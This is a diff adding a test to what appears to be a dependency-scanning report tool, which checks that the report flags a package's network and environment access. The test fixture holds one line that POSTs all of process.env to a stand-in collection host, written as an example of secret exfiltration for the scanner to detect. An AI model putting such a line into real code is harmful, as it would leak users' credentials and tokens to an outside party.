@@ -70,6 +70,20 @@ describe('report', () => {
     assert.match(section ?? '', /Owners by CODEOWNERS.*<th scope="row">@acme\/apps<\/th>/s);
   });
 
+  test('shows what installed direct dependencies can do, and names the rest', () => {
+    const directory = makeProject({
+      'package.json': { name: 'shop', dependencies: { sender: '1.0.0', gone: '1.0.0' } },
+      'package-lock.json': lockfileOf({ sender: '1.0.0', gone: '1.0.0' }),
+      'node_modules/sender/package.json': { name: 'sender', version: '1.0.0' },
+      'node_modules/sender/index.js':
+        "fetch('https://collect.example.test/', { method: 'POST', body: JSON.stringify(process.env) });",
+    });
+    const page = report(directory, '--offline').page();
+    assert.match(page, /<code>sender 1\.0\.0<\/code><\/th><td class="wide">network, environment<\/td>/);
+    assert.match(page, /Suspicious:<\/span> \d+ points/);
+    assert.match(page, /Not looked at: the code of 1 package version \(gone 1\.0\.0\)/);
+  });
+
   test('takes the threshold of the verdict', () => {
     const directory = makeProject({
       'package.json': { name: 'shop', packageManager: 'npm@11.19.1', dependencies: { expresss: '1.0.0' } },
